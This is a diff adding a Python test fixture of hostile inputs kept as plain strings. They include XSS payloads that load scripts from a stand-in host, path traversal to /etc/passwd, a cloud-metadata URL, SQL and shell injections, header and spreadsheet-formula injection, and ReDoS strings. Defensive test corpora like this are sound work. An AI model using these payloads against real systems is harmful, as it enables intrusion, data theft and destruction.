@@ -1,0 +1,102 @@
+"""Hostile inputs, of the kinds that public lists of patterns have; each is text and must stay text."""
+
+SCRIPTS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus=alert(1) x="',
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "<!--><script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=x></form>",
+    "<object data=javascript:alert(1)></object>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "＜script＞alert(1)＜/script＞",
+    "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "javascript:alert(1)",
+]
+TEMPLATES = [
+    "{{7*191}}",
+    "${7*191}",
+    "{%print(7*191)%}",
+    "#{7*191}",
+    "<%= 7*191 %>",
+    "{{config}}",
+    "{n.__class__}",
+    "%(x)s",
+]
+PATHS = [
+    "../../../../etc/passwd",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "..%252f..%252fetc%252fpasswd",
+    "....//....//etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "//evil.example/",
+    "file:///etc/passwd",
+    "http://169.254.169.254/latest/meta-data/",
+    "\\\\evil\\share",
+    "%c0%ae%c0%ae/etc/passwd",
+    "ledger.sqlite",
+    ".",
+    "..",
+    "%2e%2e",
+    "users.json%00.css",
+]
+DATABASES = ["' OR '1'='1", "1; DROP TABLE reading--", "' UNION SELECT sqlite_version()--", '{"$gt": ""}', "*)(uid=*"]
+SHELLS = ["; id", "$(id)", "`id`", "| cat /etc/passwd", "() { :;}; echo x"]
+HEADERS = [
+    "x\r\nSet-Cookie: evil=1",
+    "x\nLocation: //evil.example",
+    "x%0d%0aSet-Cookie:evil=1",
+    "\r\n\r\n<html>",
+    "嘊嘍Set-Cookie:evil=1",
+]
+SHEETS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1+1"]
+PATTERNS = [
+    "(a+)+$" + "a" * 50,
+    "(" * 300,
+    "*" * 300,
+    '"' * 301,
+    "a*" * 100,
+    "NOT " * 100,
+    "OR " * 100,
+    "-" * 300,
+    "[" * 200,
+]
+UNICODE = [
+    "\u202e文",
+    "\ufeff",
+    "\ud7ff\ue000",
+    "\U0010ffff",
+    "ﷺ" * 100,
+    "Z̸̡͇̳̺" * 30,
+    "\u0000",
+    "\x7f\x1b[31m",
+    "%",
+    "%%%",
+    "%zz",
+    "%ff%fe",
+    "1e309",
+    "-1",
+    "9" * 400,
+    "NaN",
+    "١٢٣",
+]
+
+INPUTS = [*SCRIPTS, *TEMPLATES, *PATHS, *DATABASES, *SHELLS, *HEADERS, *SHEETS, *PATTERNS, *UNICODE]
